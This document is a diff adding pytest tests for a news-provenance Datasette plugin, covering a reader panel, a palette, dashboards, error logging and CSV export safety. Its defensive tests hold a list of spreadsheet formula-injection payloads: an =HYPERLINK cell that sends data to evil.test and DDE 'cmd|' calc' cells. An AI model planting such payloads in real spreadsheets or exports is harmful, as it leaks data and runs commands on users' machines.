@@ -20,7 +20,9 @@ from plugin_data import (
 
 from db.plugin.app import make_datasette, metadata
 from db.plugin.highlight import Mark, css_class, highlight
+from db.plugin.palette import FRAMING, SOURCING
 from db.plugin.queries import CANNED
+from db.plugin.reader import human_time
 from db.schema import open_db
 
 
@@ -135,10 +137,136 @@ async def test_reader_side_panel_lists_flags_in_order_with_counts(ds):
     panel = html[html.index('id="flags"') :]
     items = re.findall(r'<li id="d-(f-\d+)"', panel)
     assert items == [f"f-{n}" for n in range(1, len(items) + 1)]
-    assert len(items) == 9  # 4 sentences + 5 framing spans
+    assert len(items) == 8  # 3 unsourced sentences + 5 framing spans
     assert re.search(r"<dt>Unsourced assertions</dt><dd>3</dd>", panel)
+    assert re.search(r"<dt>Framing phrases</dt><dd>5</dd>", panel)
     assert "Unnamed officials &lt;i&gt;said&lt;/i&gt;" in panel
     assert "framing.loaded.staggering" in panel
+
+
+async def test_reader_flag_count_matches_the_csv_and_named_sources_are_context(ds):
+    html = (await ds.client.get("/-/article/1")).text
+    shown = int(re.search(r'<h2>Flags <span class="np-count">(\d+)</span>', html).group(1))
+    csv_rows = list(
+        csv.DictReader(
+            io.StringIO((await ds.client.get("/newsprov/articles/1.xlcsv")).text.lstrip("\ufeff"))
+        )
+    )
+    assert shown == len(csv_rows) == 8
+    panel = html[html.index('id="flags"') : html.index("</aside>")]
+    flag_list = panel[panel.index('class="np-flags"') : panel.index("</ol>")]
+    assert "Named source" not in flag_list  # not a flag...
+    context = panel[panel.index('id="np-context-h"') :]
+    assert 'class="np-count np-count-context">1<' in context  # ...but shown as context
+    assert "Minister Ana Ruiz" in context and 'href="#n-1"' in context
+    marks = parse_marks(html)
+    assert marks.text["n-1"] == "Minister Ana Ruiz said the plan worked."
+    assert "src-named-source" in marks.pieces["n-1"][0]["class"]
+
+
+async def test_reader_shows_readable_times_with_iso_in_time_elements(ds):
+    html = (await ds.client.get("/-/article/1")).text
+    assert '<time datetime="2026-11-20T10:00:00Z">20 Nov 2026, 10:00 UTC</time>' in html
+    related = html[html.index('id="np-related-h"') : html.index('id="np-trails-h"')]
+    assert '<time datetime="2026-11-19T09:00:00Z">19 Nov 2026, 09:00 UTC</time>' in related
+    head = html[html.index('class="np-meta"') : html.index('class="np-legend"')]
+    assert "T10:00:00Z<" not in head  # the raw ISO form is only in the attribute
+
+
+def test_human_time_formats_and_passes_odd_values_through():
+    assert human_time("2025-02-26T06:30:00Z") == "26 Feb 2025, 06:30 UTC"
+    assert human_time("2025-02-26T08:30:00+02:00") == "26 Feb 2025, 06:30 UTC"
+    assert human_time("2025-02-26") == "26 Feb 2025"
+    assert human_time("yesterday <b>") == "yesterday <b>"  # escaped by the template
+    assert human_time(None) == ""
+
+
+async def test_reader_wraps_long_rule_ids_inside_the_side_panel(ds, db_path):
+    long_id = "framing.loaded_language.an_extraordinarily_long_entry_identifier_for_a_phrase"
+    db = open_db(str(db_path))
+    with db.conn:
+        db.conn.execute("UPDATE framing SET entry = ? WHERE framing_id = 1", (long_id,))
+    db.conn.close()
+    html = (await ds.client.get("/-/article/1")).text
+    rule = re.search(
+        r'<p class="np-rule">Rule: <code title="(framing\.loaded_language[^"]+)">(.*?)</code>',
+        html,
+    )
+    assert rule.group(1) == long_id  # the whole id on hover
+    assert rule.group(2).count("<wbr>") >= 10  # a break after every dot and underscore
+    assert re.sub(r"<wbr>", "", rule.group(2)) == long_id
+    css = (await ds.client.get(re.search(r'href="([^"]+reader\.css)"', html).group(1))).text
+    assert "overflow-wrap: anywhere" in css
+
+
+async def test_reader_says_how_related_coverage_was_found(ds, db_path):
+    db = open_db(str(db_path))
+    with db.conn:
+        db.conn.execute(
+            "INSERT INTO articles (article_id, url, outlet_id, title, text, word_count,"
+            " extractor, created_at, updated_at) VALUES (4, 'https://four.test/x', 'wire.test',"
+            " 'Four', 'Four.', 1, 'newspaper', '2026-11-28T00:00:00Z', '2026-11-28T00:00:00Z')"
+        )
+        db.conn.execute(
+            "INSERT INTO related (article_id, other_article_id, method, same_story, created_at)"
+            " VALUES (1, 4, 'user', 1, '2026-11-28T00:00:00Z')"
+        )
+    db.conn.close()
+    html = (await ds.client.get("/-/article/1")).text
+    found = dict(re.findall(r'data-method="([a-z_]+)">([^<]+)<', html))
+    assert found == {
+        "links": "linked from the article",
+        "feed": "this article was found from it: found in the outlet&#39;s feed",
+        "user": "you listed it",
+    }
+    assert "found via user" not in html
+
+
+# -- one palette, in the reader and the dashboards ---------------------------------------------
+async def test_reader_legend_names_every_label_with_its_code_and_colour(ds):
+    html = (await ds.client.get("/-/article/1")).text
+    legend = html[html.index('class="np-legend"') : html.index('id="np-text"')]
+    for p in SOURCING:
+        assert f'data-label="{p.label}"' in legend and f"src-{css_class(p.label)}" in legend
+        rule = f".src-{css_class(p.label)} {{ background: {p.tint}; --np-strong: {p.strong};"
+        assert rule in html  # the colour...
+        assert f'content: "{p.code}"' in html  # ...and a code, so colour is not the only cue
+    for f in FRAMING:
+        assert f'data-label="{f.category}"' in legend
+        assert f"text-decoration-color: {f.colour}; text-decoration-style: {f.style};" in html
+    styles = {f.style for f in FRAMING}
+    assert len(styles) == len(FRAMING)  # each category its own line style
+    assert "(context)" in legend  # named sources are not flags
+
+
+def test_palette_is_colour_blind_safe_distinct_and_shared_with_the_dashboards():
+    tints = [p.tint for p in SOURCING]
+    strongs = [p.strong for p in SOURCING]
+    codes = [p.code for p in SOURCING] + [f.code for f in FRAMING]
+    assert len(set(tints)) == len(set(strongs)) == len(SOURCING)
+    assert len(set(codes)) == len(codes)
+    # Paul Tol's pale/bright and Okabe-Ito colours only.
+    tol = {"#CCDDAA", "#EEEEBB", "#BBCCEE", "#CCEEFF", "#DDDDDD", "#FFCCCC"}
+    assert set(tints) <= tol
+    charts = metadata("newsprov")["plugins"]["datasette-dashboards"]
+    for dash in charts.values():
+        for slug, chart in dash["charts"].items():
+            enc = chart.get("display", {}).get("encoding", {}) if slug != "intro" else {}
+            if slug == "sourcing-mix":
+                assert enc["color"]["scale"]["range"] == strongs
+                assert enc["color"]["scale"]["domain"][1] == "A · anonymous source"
+            if slug == "framing-mix":
+                assert enc["color"]["scale"]["range"] == [f.colour for f in FRAMING]
+
+
+async def test_dashboard_sourcing_mix_reads_sourcing_counts_with_codes(ds):
+    chart = metadata("newsprov")["plugins"]["datasette-dashboards"]["newsprov-overview"]
+    sql = chart["charts"]["sourcing-mix"]["query"]
+    assert "sourcing_counts" in sql and "FROM sentences" not in sql
+    r = await ds.client.get("/newsprov.json", params={"sql": sql, "_shape": "array"})
+    rows = {(x["outlet"], x["sourcing"]): (x["code"], x["n"]) for x in r.json()}
+    assert rows[("nationpress.test", "A · anonymous source")] == ("A", 1)
+    assert rows[("wire.test", "N · named source")] == ("N", 1)
 
 
 async def test_reader_shows_related_coverage_and_claim_trail(ds):
@@ -405,3 +533,167 @@ async def test_reader_survives_a_malformed_conflict_cell(ds, db_path):
     assert parse_marks(r.text).text
     r = await ds.client.get("/newsprov/conflicting_figures.json?_shape=array")
     assert r.status_code == 200
+
+
+# -- every CSV Datasette serves is formula-safe ---------------------------------------------
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd",
+    "\t=1+1",
+    "  =1+1",
+    '=multi\nline, "quoted"\r\n=again',
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def assert_formula_safe(body: bytes) -> list[list[str]]:
+    assert body.startswith(b"\xef\xbb\xbf"), body[:20]  # UTF-8 BOM: Excel reads accents right
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    for row in rows:
+        for cell in row:
+            if re.fullmatch(r"[+-]?\d+(\.\d+)?", cell):
+                continue  # a plain number stays a number
+            assert not cell.lstrip(" ").startswith(FORMULA_START), (cell, row)
+    return rows
+
+
+@pytest.fixture
+def hostile_ds(db_path):
+    db = open_db(str(db_path))
+    with db.conn:
+        db.conn.execute("UPDATE articles SET title = ? WHERE article_id = 1", (HOSTILE_CELLS[0],))
+        db.conn.execute(
+            "UPDATE outlets SET name = ? WHERE outlet_id = 'wire.test'", (HOSTILE_CELLS[1],)
+        )
+        for sid, cell in zip((1, 2, 3), HOSTILE_CELLS[2:5], strict=True):
+            db.conn.execute("UPDATE sentences SET text = ? WHERE sentence_id = ?", (cell, sid))
+        db.conn.execute(
+            "UPDATE sentences SET reason = ? WHERE sentence_id = 1", (HOSTILE_CELLS[5],)
+        )
+        db.conn.execute("UPDATE sentences SET cue = ? WHERE sentence_id = 2", (HOSTILE_CELLS[6],))
+        # Enough rows that the stream comes in many chunks, each row with a formula and
+        # a multi-byte character, to catch any cut inside a quoted field or a character.
+        db.conn.executemany(
+            "INSERT INTO framing (article_id, start, end, text, category, reason)"
+            " VALUES (2, ?, ?, ?, 'doubt', '@cmd')",
+            [(i, i + 1, f'=1+{i}, "Zoë 😀"\n') for i in range(3000)],
+        )
+    db.conn.close()
+    return make_datasette(db_path)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/newsprov/articles.csv",
+        "/newsprov/articles.csv?_dl=on",
+        "/newsprov/sentences.csv?_stream=on",
+        "/newsprov/framing.csv?_stream=on&_size=max",
+        "/newsprov/outlets/wire~2Etest.csv",
+        "/newsprov/unsourced_assertions.csv",
+        "/newsprov/unsourced_assertions.csv?_stream=on&_dl=on",
+        "/newsprov.csv?sql=select+title,+-5+as+n,+'%3D1%2B1'+as+f+from+articles",
+    ],
+)
+async def test_builtin_csv_downloads_are_formula_safe_with_a_bom(hostile_ds, path):
+    r = await hostile_ds.client.get(path)
+    assert r.status_code == 200, r.text[:300]
+    rows = assert_formula_safe(r.content)
+    cells = {c for row in rows for c in row}
+    assert len(rows) >= 2
+    if "framing.csv" in path:
+        assert len(rows) == 1 + 5 + 3000  # header, fixture spans, every streamed row
+        assert '\'=1+2999, "Zoë 😀"\n' in cells  # neutralised, quoted and whole
+    if "sentences.csv" in path:
+        assert "'+1+cmd|' /C calc'!A0" in cells and "'-2+3+cmd" in cells
+        assert "'\t=1+1" in cells and "'  =1+1" in cells
+    if "articles.csv" in path or "sql=" in path:
+        assert "'" + HOSTILE_CELLS[0] in cells
+    if "sql=" in path:
+        assert rows[1][1:] == ["-5", "'=1+1"]
+    if "outlets" in path:
+        assert "'" + HOSTILE_CELLS[1] in cells
+    if "_dl=on" in path:
+        assert r.headers["content-type"].startswith("text/csv")
+        assert "attachment" in r.headers["content-disposition"]
+
+
+async def test_csv_error_and_trace_pages_are_left_alone(hostile_ds):
+    r = await hostile_ds.client.get("/newsprov/no_such_table.csv")
+    assert r.status_code == 404 and not r.content.startswith(b"\xef\xbb\xbf")
+    r = await hostile_ds.client.get("/newsprov/articles.json")
+    assert r.status_code == 200 and r.json()["rows"][0][6] == HOSTILE_CELLS[0]  # JSON is data
+
+
+@pytest.mark.parametrize("seed", range(5))
+def test_csv_rewriter_handles_any_chunking(seed):
+    import random
+
+    from db.plugin.csvsafe import CsvRewriter, safe_cell
+
+    rng = random.Random(seed)
+    rows = [["a", "b", "c"]] + [
+        [rng.choice(HOSTILE_CELLS), f"Zoë 😀 {i}", str(rng.randint(-50, 50))] for i in range(200)
+    ]
+    src, want = io.StringIO(), io.StringIO()
+    csv.writer(src).writerows(rows)  # Datasette's dialect
+    csv.writer(want, lineterminator="\r\n").writerows([[safe_cell(c) for c in r] for r in rows])
+    data = src.getvalue().encode("utf-8")
+    out, rewriter, pos = [], CsvRewriter(), 0
+    while pos < len(data):
+        step = rng.randint(1, 40)  # cuts inside characters, quoted fields and line ends
+        out.append(rewriter.feed(data[pos : pos + step]))
+        pos += step
+    out.append(rewriter.feed(b"", final=True))
+    assert b"".join(out).decode("utf-8") == "\ufeff" + want.getvalue()
+
+
+# -- errors: a helpful page, a quiet console ----------------------------------------------------
+async def test_not_found_and_forbidden_print_nothing_but_show_a_helpful_page(ds, db_path, capfd):
+    for path, status, says in [
+        ("/newsprov/articles/999", 404, "not found"),
+        ("/-/article/999", 404, "check the articles table"),
+        ("/newsprov/no_such_table", 404, "not found"),
+        ("/newsprov/articles/999.json", 404, "not found"),
+    ]:
+        r = await ds.client.get(path)
+        assert r.status_code == status, path
+        assert says in r.text.lower(), (path, r.text[:300])
+    locked = Datasette(
+        [str(db_path)],
+        metadata={"databases": {"newsprov": {"tables": {"runs": {"allow": False}}}}},
+    )
+    r = await locked.client.get("/newsprov/runs")
+    assert r.status_code == 403
+    out, err = capfd.readouterr()
+    assert out == "" and err == "", (out + err)[:2000]
+
+
+async def test_a_real_error_logs_one_useful_line(db_path, capfd):
+    from datasette import hookimpl
+    from datasette.plugins import pm
+
+    class Boom:
+        __name__ = "newsprov_test_boom"  # Datasette lists plugins by module name
+
+        @hookimpl
+        def register_routes(self):
+            async def boom(request):
+                raise RuntimeError("the database is on fire")
+
+            return [(r"^/-/boom$", boom)]
+
+    pm.register(Boom(), name="test-boom")
+    try:
+        ds = make_datasette(db_path)
+        r = await ds.client.get("/-/boom?x=1")
+    finally:
+        pm.unregister(name="test-boom")
+    assert r.status_code == 500 and "the database is on fire" in r.text
+    out, err = capfd.readouterr()
+    lines = [ln for ln in (out + err).splitlines() if ln.strip()]
+    assert len(lines) == 1, lines[:20]
+    assert lines[0].startswith("500 GET /-/boom?x=1: RuntimeError: the database is on fire (")
+    assert "test_plugin.py:" in lines[0]
